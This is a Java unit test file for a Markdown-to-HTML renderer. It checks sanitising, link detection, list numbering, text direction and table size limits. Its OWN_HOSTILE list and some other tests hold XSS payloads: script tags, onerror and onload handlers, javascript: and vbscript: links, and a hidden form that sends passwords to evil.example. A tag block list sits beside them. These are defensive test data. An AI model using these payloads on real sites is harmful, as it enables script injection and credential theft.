package org.atrium.platform.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What people write comes out harmless, and whole. */
class MarkdownTest {

    private static final Set<String> RUNS = Set.of(
            "script",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "style",
            "link",
            "meta",
            "base",
            "form",
            "input",
            "button",
            "video",
            "audio",
            "template",
            "frame",
            "frameset",
            "applet");

    private static final Set<String> PLAIN = Set.of(
            "body",
            "p",
            "br",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "ul",
            "ol",
            "li",
            "blockquote",
            "pre",
            "code",
            "em",
            "strong",
            "a");

    private static final Set<String> ADDRESSES = Set.of("href", "src", "action", "formaction", "xlink:href", "data");

    /** Tags people type: unclosed ones are repaired, which is not the specification's business. */
    private static final Pattern RAW_HTML = Pattern.compile("<[a-zA-Z/!?](?!ttps?:|ailto:)");

    private static final List<String> OWN_HOSTILE = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt&#58;alert(1))",
            "![x](data:text/html;base64,PHNjcmlwdD4=)",
            "<a href=\"vbscript:x\" style=\"position:fixed\">x</a>",
            "<svg/onload=alert(1)>",
            "```\n<script>alert(1)</script>\n```",
            "<style>*{display:none}</style><form action=//evil.example><input name=password></form>");

    @Test
    void ownHostileTextIsSafe() {
        OWN_HOSTILE.forEach(MarkdownTest::assertHarmless);
    }

    @Test
    void hostileDataSetIsSafe() throws IOException {
        List<Hostile> lines = SharedData.read("hostile.ndjson.gz", Hostile.class);
        assertThat(lines).hasSizeGreaterThan(3000);
        lines.forEach(line -> assertHarmless(line.text()));
    }

    @Test
    void safeMarkupIsKept() {
        assertThat(Markdown.html("# A\n\n**b** *c* ~~d~~ `e`\n\n> f\n\n1. g\n\n| h |\n|---|\n| i |"))
                .contains(
                        "<h1 dir=\"auto\">A</h1>", "<strong>b</strong>", "<em>c</em>", "<del>d</del>", "<code>e</code>")
                .contains("<blockquote dir=\"auto\">", "<ol dir=\"auto\">", "<td>i</td>")
                .contains("<table dir=\"auto\" tabindex=\"0\">");
        assertThat(Markdown.html("https://example.org/a?b=1&c=2")).contains("href=\"https://example.org/a?b&#61;1");
    }

    @Test
    void lineBreakOfTheAuthorIsShown() {
        assertThat(Markdown.html("line\nbreak")).isEqualTo("<p dir=\"auto\">line<br />\nbreak</p>\n");
        assertThat(body(Markdown.html("> Kind regards\n> Nora\n\n- one\n  two")).select("br"))
                .hasSize(2);
        assertThat(body(Markdown.html("hard  \nbreak\\\nagain")).select("br")).hasSize(2);
        assertThat(body(Markdown.html("one\n\ntwo\n\n```\na\nb\n```")).select("br"))
                .isEmpty();
    }

    @Test
    void lineBreakIsWhiteSpaceToWhatReadsWords() {
        assertThat(Markdown.excerpt("line\nbreak", 40)).isEqualTo("line break");
        assertThat(Markdown.content("line\nbreak").text().strip()).isEqualTo("line\nbreak");
    }

    /**
     * Examples of the specification that use nothing but what is allowed come out as the specification says; links that
     * lead nowhere by themselves are their words.
     */
    @Test
    void commonMarkExamplesRender() throws IOException {
        List<String> lost = new ArrayList<>();
        int compared = 0;
        for (Example example : SharedData.read("commonmark.ndjson.gz", Example.class)) {
            Document expected = body(example.html());
            expected.select("a").stream()
                    .filter(link -> !LinkTargets.isTarget(link.attr("href")))
                    .forEach(Element::unwrap);
            if (isSafe(expected) && !RAW_HTML.matcher(example.markdown()).find() && !hasBareLink(expected)) {
                compared++;
                String actual = words(body(Markdown.html(example.markdown())));
                if (!actual.equals(words(expected))) {
                    lost.add(example.markdown() + " -> " + actual + " instead of " + words(expected));
                }
            }
        }
        assertThat(compared).isGreaterThan(450);
        assertThat(lost).isEmpty();
    }

    private static void assertHarmless(String text) {
        Document html = body(Markdown.html(text));
        for (Element element : html.body().getAllElements()) {
            assertThat(RUNS).as(text).doesNotContain(element.normalName());
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name).as(text).doesNotStartWith("on").isNotEqualTo("style");
                if (ADDRESSES.contains(name)) {
                    assertThat(attribute
                                    .getValue()
                                    .replaceAll("[\\s\\p{Cntrl}]", "")
                                    .toLowerCase(Locale.ROOT))
                            .as(text)
                            .doesNotStartWith("javascript:")
                            .doesNotStartWith("data:")
                            .doesNotStartWith("vbscript:");
                }
            }
        }
    }

    private static Document body(String html) {
        Document document = Jsoup.parseBodyFragment(html);
        document.outputSettings().prettyPrint(false);
        return document;
    }

    /** Bare links are an extension: the specification leaves them as words. */
    private static boolean hasBareLink(Document html) {
        Document words = html.clone();
        words.select("a").remove();
        return words.text().contains("://") || words.text().contains("@");
    }

    private static boolean isSafe(Document html) {
        return html.body().getAllElements().stream()
                .allMatch(element -> PLAIN.contains(element.normalName())
                        && isPlainAddress(element.attr("href"))
                        && isPlainAddress(element.attr("src")));
    }

    private static boolean isPlainAddress(String address) {
        return !address.contains(":") || address.matches("(?i)(https?|mailto):.*");
    }

    /**
     * The document as tags and text, without what is added to links and the space between blocks; pictures are links. Line
     * breaks are left out: the specification has words run on where their author ended a line.
     */
    private static String words(Document html) {
        StringBuilder words = new StringBuilder();
        html.body().getAllElements().not("br").forEach(element -> words.append(element.normalName())
                .append(' ')
                .append(element.attr("title"))
                .append(element.attr("start"))
                .append(' '));
        return words + html.body().wholeText().replaceAll("\\s+", "");
    }

    public record Hostile(String kind, String text) {}

    public record Example(String markdown, String html) {}

    @Test
    void escapedLineIsShownLiterally() {
        String line = "# *Nora* _x_ [y](z) `c` <b> 1. \\ a|b ~~s~~ 王小明 & Söhne";
        assertThat(Jsoup.parse(Markdown.html(Markdown.escaped("  " + line + "\n")))
                        .text())
                .isEqualTo(line);
    }

    /** Rows of a table are filled up to its head. */
    @Test
    void tableSizeIsBounded() {
        for (int width : new int[] {300, 1500}) {
            String bomb = "|a".repeat(width) + "|\n" + "|-".repeat(width) + "|\n" + "a\n".repeat(width);

            assertThat(Markdown.html(bomb).length()).isLessThan(10 * bomb.length());
        }
        assertThat(Markdown.html("|a|b|\n|-|-|\n" + "|c|d|\n".repeat(2000))).contains("<td>d</td>");
    }

    @Test
    void numberedListsKeepTheirStart() {
        assertThat(Markdown.html("7. seven\n8. eight")).startsWith("<ol start=\"7\"");
        assertThat(Markdown.html("0) none")).startsWith("<ol start=\"0\"");
        assertThat(Markdown.html("003. three")).startsWith("<ol start=\"3\"");
        assertThat(Markdown.html("1. one\n2. two")).doesNotContain("start");
        assertThat(Markdown.html("<ol start=\"-1x\"><li>a</li></ol>")).doesNotContain("start");
        assertThat(Jsoup.parse(Markdown.html("1. one\n\n```\ncode\n```\n\n2. two"))
                        .select("ol")
                        .eachAttr("start"))
                .containsExactly("2");
    }

    /** An address as it is typed between other words, and where it leads. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '\0',
            value = {
                "https://files.example/kettle/__init__.py           | https://files.example/kettle/__init__.py",
                "https://files.example/__init__                     | https://files.example/__init__",
                "https://files.example/a*b*c                        | https://files.example/a*b*c",
                "https://files.example/*a*b*                        | https://files.example/*a*b*",
                "https://files.example/~nora/a_b                    | https://files.example/~nora/a_b",
                "请看https://wiki.example/kettle。谢谢               | https://wiki.example/kettle",
                "请看（https://wiki.example/水壶）！                  | https://wiki.example/水壶",
                "「https://wiki.example/a」、                        | https://wiki.example/a",
                "https://例え.jp/パス・二。                            | https://例え.jp/パス・二",
                "https://пример.рф/чай, и                           | https://пример.рф/чай",
                "https://موقع.example/صفحة، ثم                      | https://موقع.example/صفحة",
                "https://हिन्दी.example/केतली। और                       | https://हिन्दी.example/केतली",
                "(see https://en.wiki.example/Kettle_(device))      | https://en.wiki.example/Kettle_(device)",
                "(https://a.example/b), c                           | https://a.example/b",
                "https://a.example/b?c=(d)&e=[f].                   | https://a.example/b?c=(d)&e=[f]",
                "https://a.example/b?c=1&amp;d=2;                   | https://a.example/b?c=1&d=2",
                "&lt;https://a.example/b&gt;                        | https://a.example/b",
                "**https://a.example/b**                            | https://a.example/b",
                "_https://a.example/__init__.py_                    | https://a.example/__init__.py",
                "~~https://a.example/b~~                            | https://a.example/b",
                "“https://a.example/b”                              | https://a.example/b",
                "»https://a.example/b«                              | https://a.example/b",
                "‘https://a.example/b’                              | https://a.example/b",
                "‚https://a.example/b‘                              | https://a.example/b",
                "„https://a.example/b“                              | https://a.example/b",
                "‹https://a.example/b›                              | https://a.example/b",
                "『https://a.example/b』                              | https://a.example/b",
                "´https://a.example/b´                              | https://a.example/b",
                "ʻhttps://a.example/bʼ                              | https://a.example/b",
                "ˮhttps://a.example/bˮ                              | https://a.example/b",
                "❝https://a.example/b❞                              | https://a.example/b",
                "🙶https://a.example/b🙷                              | https://a.example/b",
                "〝https://a.example/b〟                              | https://a.example/b",
                "https://a.example/b’s                              | https://a.example/b",
                "https://a.example/kʼika                            | https://a.example/kʼika",
                "\"https://a.example/b\"                            | https://a.example/b",
                "https://a.example/b'c'.                            | https://a.example/b'c",
                "https://a.example/b?!                              | https://a.example/b",
                "https://a.example/b...                             | https://a.example/b",
                "https://a.example/b—and                            | https://a.example/b",
                "https://a.example/b\u200b                          | https://a.example/b",
                "HTTPS://A.EXAMPLE/B                                | HTTPS://A.EXAMPLE/B",
                "http://[::1]:8080/a                                | http://[::1]:8080/a",
                "https://nora:x@a.example:8443/b#c.                 | https://nora:x@a.example:8443/b#c",
                "https://a.example/b\\_c                            | https://a.example/b_c",
                "[https://a.example/b_c_](https://d.example)        | https://d.example",
                "www.a.example/b_c_d.                               | https://www.a.example/b_c_d",
                "me@a.example。                                      | mailto:me@a.example",
                "请写me.too@a.example，谢谢                           | mailto:me.too@a.example",
                "пётр@пример.рф                                     | mailto:пётр@пример.рф"
            })
    void bareUrlsBecomeLinks(String words, String address) {
        assertThat(Markdown.content(words).addresses())
                .containsExactly(address.replace("(", "%28").replace(")", "%29"));
        assertThat(Jsoup.parse(Markdown.html("x " + words + " x")).select("a")).hasSize(1);
        assertThat(Jsoup.parse(Markdown.html("x " + words + " x")).select("em em, a em, a strong"))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://", "https:// a", "www.", "www. a", "ahttps://a.example", "`https://a.example`",
                "    https://a.example", "x@y", "a@1.2.3", "/me@a.example", "hello", "awww.a.example"
            })
    void otherTextBecomesNoLink(String words) {
        assertThat(Markdown.html(words)).doesNotContain("<a");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '\0',
            value = {
                "Use List<String> and <price>      | Use List<String> and <price>",
                "<price>                           | <price>",
                "a < b, c > d, <3, Map<K, V>       | a < b, c > d, <3, Map<K, V>",
                "List<List<T>> x                   | List<List<T>> x",
                "</price> <Price a=\"b\"/> <price  | </price> <Price a=\"b\"/> <price",
                "<a-b> <abbr> <pre1> <textarea>    | <a-b> <abbr> <pre1> <textarea>",
                "<script>alert(1)</script>         | <script>alert(1)</script>",
                "<?php echo ?> <!DOCTYPE x>        | <?php echo ?> <!DOCTYPE x>",
                "<B>bold</B> <br/> <strong x=y>s</strong> | bold s",
                "<!-- unseen <price> --> seen      | seen",
                "<!-- it never ends                | <!-- it never ends",
                "a <!-- b <price> | a <!-- b <price>",
                "<p>List<String></p>               | List<String>"
            })
    void unknownTagsAreShownAsText(String source, String shown) {
        assertThat(Jsoup.parse(Markdown.html(source)).text()).isEqualTo(shown);
        assertThat(Markdown.excerpt(source, 100)).isEqualTo(shown);
    }

    @Test
    void linesWithoutTagAreParsedNormally() {
        assertThat(Markdown.html("<price>\nis *too* high")).contains("&lt;price&gt;", "<em>too</em>");
        assertThat(Markdown.html("<div>\n*a*\n</div>")).contains("<em>a</em>");
    }

    /** A text is read on many pages: what is relative to one of them leads to no place. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '\0',
            value = {
                "![](x)                      | x",
                "![lid](x.png)               | lid",
                "<img src=x>                 | x",
                "<img src=../x alt=lid>      | lid",
                "[a](x)                      | a",
                "[a](./x?y#z)                | a",
                "[a](?y)                     | a",
                "[a]()                       | a",
                "[a](www.shop.test)          | a",
                "[a](https:x)                | a",
                "[a](//)b                    | ab",
                "<a href=x>a</a>             | a",
                "[*a* ![](x)](y)             | a x"
            })
    void relativeTargetsAreShownAsText(String source, String shown) {
        Document html = body(Markdown.html(source));

        assertThat(html.select("a, img, [href], [src]")).isEmpty();
        assertThat(html.text()).isEqualTo(shown);
        assertThat(Markdown.content(source).addresses()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"https://shop.test", "HTTP://shop.test/x", "mailto:a@shop.test", "/orders", "/", "#lid", "#"})
    void absoluteTargetsStayLinks(String target) {
        assertThat(body(Markdown.html("[a](" + target + ")")).select("a").attr("href"))
                .isEqualTo(target);
        assertThat(body(Markdown.html("![a](" + target + ")")).select("a").attr("href"))
                .isEqualTo(target);
    }

    /** Nobody but the portal hears who reads what, and nothing happens by reading. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a](https://t.example/p.gif)",
                "![a](/community)",
                "![a][p]\n\n[p]: //t.example/p.gif",
                "<img src=https://t.example/p.gif>",
                "<IMG SRC='https://t.example/p.gif' alt=a/>",
                "[![a](https://t.example/p.gif)](https://b.example)",
                "<p><img src=\"https://t.example/p.gif\"></p>",
                "|a|\n|-|\n|![a](https://t.example/p.gif)|",
                "<a href=\"https://b.example\"><img src=\"https://t.example/p.gif\"></a>"
            })
    void imagesBecomeLinks(String source) {
        Document html = body(Markdown.html(source));

        assertThat(html.select("img, [src]")).isEmpty();
        assertThat(html.select("a")).hasSize(1);
        assertThat(html.select("a").attr("rel")).contains("nofollow", "noopener");
        assertThat(html.text()).isNotBlank();
        assertThat(Markdown.content(source).pictures()).isEqualTo(1);
    }

    @Test
    void uploadedPicturesAreShown() {
        String id = "0123456789abcdef0123456789abcdef";
        Document html = body(Markdown.html("![Kettle](/files/" + id + "#640x480)\n\n[![a](/files/" + id + ")](/files/"
                + id + ")\n\n![b](/files/" + id + "/../../signout) <img src='/files/" + id + "' onerror=alert(1)>"));

        assertThat(html.select("img")).hasSize(3).allSatisfy(image -> assertThat(image.attr("src"))
                .isEqualTo("/files/" + id));
        assertThat(html.selectFirst("img").attr("alt")).isEqualTo("Kettle");
        assertThat(html.selectFirst("img").attr("width")).isEqualTo("640");
        assertThat(html.selectFirst("img").attr("height")).isEqualTo("480");
        assertThat(html.select("[onerror]")).isEmpty();
        assertThat(Markdown.files("![a](/files/" + id + "#1x1) [b](/files/" + "f".repeat(32) + ") `/files/"
                        + "0".repeat(32) + "`"))
                .containsExactly(id, "f".repeat(32));
    }

    @Test
    void blocksHaveAutomaticDirection() {
        Document html = body(Markdown.html("# שלום\n\nمرحبا\n\n- א\n- ב\n\n> سلام\n\n```\nx\n```\n\n|a|\n|-|\n|b|"));

        assertThat(html.body().children())
                .extracting(block -> block.tagName() + " " + block.attr("dir"))
                .containsExactly("h1 auto", "p auto", "ul auto", "blockquote auto", "pre ltr", "table auto");
        // Inside, another one would keep the letters there from deciding for the whole.
        assertThat(html.select("ul [dir], blockquote [dir], table [dir]")).isEmpty();
    }

    @Test
    void excerptContainsALinkOnce() {
        assertThat(Markdown.excerpt("see https://x.example and [y](https://z.example)", 100))
                .isEqualTo("see https://x.example and y");
        assertThat(Markdown.excerpt("**b** `c` <b>d</b> &amp; ![e](https://x.example/e.png)", 100))
                .isEqualTo("b c d & e");
    }

    @Test
    void contentListsTextLinksAndImages() {
        MarkdownContent content = Markdown.content("s**c**am s&#99;am\n\n![a](/b) [c](https://d.example) <!-- e -->");

        assertThat(content.text()).contains("scam scam").doesNotContain("e");
        assertThat(content.addresses()).containsExactly("/b", "https://d.example");
        assertThat(content.pictures()).isEqualTo(1);
        assertThat(Markdown.content("<!-- x -->").text()).isBlank();
        assertThat(Markdown.content("<b></b>").text()).isBlank();
    }
}
